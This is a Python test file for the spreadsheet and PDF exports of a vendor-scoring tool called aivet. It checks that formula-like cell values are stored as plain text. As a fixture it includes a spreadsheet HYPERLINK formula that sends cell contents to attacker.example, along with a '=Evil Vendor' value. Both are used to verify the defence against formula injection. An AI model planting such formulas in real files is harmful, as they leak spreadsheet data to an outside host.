"""Scorecards and comparisons leave aivet as XLSX and PDF: complete, and never with a live formula."""

import io

import openpyxl
import pypdf

from aivet.cells import safe_cell
from extraction import Answer, Evidence, Status
from scoring import Intake, load_profile, score
from scoring.compare import compare
from scoring.export import comparison_pdf, comparison_xlsx, scorecard_pdf, scorecard_xlsx

HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"Details")'


def passage(quote: str, page: int = 3, file: str = "dpa.pdf") -> Evidence:
    return Evidence("0" * 64, page, 10, 10 + len(quote), quote, file)


def card_from(audit_evidence: tuple[Evidence, ...], breach_evidence: tuple[Evidence, ...], audit: str = "yes"):
    answers = {
        "audit_rights": Answer("audit_rights", audit, Status.ANSWERED, 0.9, evidence=audit_evidence),
        "breach_notification_hours": Answer(
            "breach_notification_hours", 24, Status.ANSWERED, 0.9, evidence=breach_evidence
        ),
    }
    return score(answers, Intake.default(), load_profile())


def card_with(quote: str, audit: str = "yes"):
    evidence = (passage(quote),)
    return card_from(evidence, evidence, audit)


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)


def test_cells_that_would_run_as_formulas_are_written_as_text():
    assert [safe_cell(value) for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "plain", 7)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "plain",
        7,
    ]


def test_the_scorecard_spreadsheet_holds_every_point_and_quote_and_no_formula():
    card = card_with(HOSTILE)
    workbook = openpyxl.load_workbook(io.BytesIO(scorecard_xlsx(card, "=Evil Vendor")))
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True)}
    assert summary["vendor"] == "'=Evil Vendor" and summary["decision"] == card.decision
    points = list(workbook["Points"].iter_rows(values_only=True))
    assert points[0][:4] == ("criterion", "criterion score", "weight", "key")
    audit = next(row for row in points if row[3] == "audit_rights")
    assert audit[4] == 8 and "dpa.pdf p. 3" in audit[8] and HOSTILE in audit[8]
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]


def test_the_scorecard_pdf_names_vendor_decision_and_quotes():
    card = card_with("Customer may audit the processing once a year.")
    text = "".join(
        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(scorecard_pdf(card, "Lumora <b>AI</b>"))).pages
    )
    assert "Scorecard: Lumora <b>AI</b>" in text
    assert f"score {card.score:.1f}" in text and card.decision in text
    assert "Customer may audit the processing once a year." in " ".join(text.split())  # table cells wrap lines


def test_the_scorecard_pdf_is_landscape_with_room_for_a_passage_on_one_line():
    data = scorecard_pdf(card_with("Customer may audit the processing once a year."), "Lumora AI")
    page = pypdf.PdfReader(io.BytesIO(data)).pages[0]
    assert page.mediabox.width > page.mediabox.height
    assert "dpa.pdf p. 3: “Customer may audit the processing once a year.”" in pdf_text(data).splitlines()


def test_a_quote_longer_than_a_page_is_cut_in_the_pdf_and_keeps_its_file_and_page():
    quote = ("The customer may audit the processor's compliance with this agreement. " * 300)[:20_000]
    card = card_from((passage(quote, page=7, file="msa.pdf"),), (passage("Breaches are notified in 24 hours."),))
    text = " ".join(pdf_text(scorecard_pdf(card, "Lumora AI")).split())
    assert "audit_rights" in text and "breach_notification_hours" in text
    assert "msa.pdf p. 7: “The customer may audit" in text
    assert "(quote continues, 20,000 characters; full text in the XLSX export)" in text
    assert "dpa.pdf p. 3: “Breaches are notified in 24 hours.”" in text
    points = openpyxl.load_workbook(io.BytesIO(scorecard_xlsx(card, "Lumora AI")))["Points"]
    assert any(quote in (row[8] or "") for row in points.iter_rows(values_only=True))


def test_a_key_with_more_passages_than_a_page_holds_runs_on_across_pages_with_every_reference():
    many = tuple(
        passage(f"Clause {page}: " + "the processor notifies breaches " * 12, page=page) for page in range(1, 121)
    )
    data = scorecard_pdf(card_from(many[:1], many), "Lumora AI")
    assert len(pypdf.PdfReader(io.BytesIO(data)).pages) > 3
    text = " ".join(pdf_text(data).split())
    assert "audit_rights" in text and "breach_notification_hours" in text
    assert all(f"dpa.pdf p. {page}: “Clause {page}:" in text for page in range(1, 121))


def test_a_comparison_exports_one_column_per_vendor():
    comparison = compare([("Good", card_with("Audits allowed.")), ("Weak", card_with("No audits.", audit="no"))])
    workbook = openpyxl.load_workbook(io.BytesIO(comparison_xlsx(comparison)))
    rows = list(workbook["Comparison"].iter_rows(values_only=True))
    assert rows[0] == ("criterion", "weight", "Good", "Weak")
    assert rows[1][2] > rows[1][3]
    assert workbook.sheetnames == ["Comparison", "Good", "Weak"]
    text = pypdf.PdfReader(io.BytesIO(comparison_pdf(comparison))).pages[0].extract_text()
    assert "Vendor comparison: Good, Weak" in text
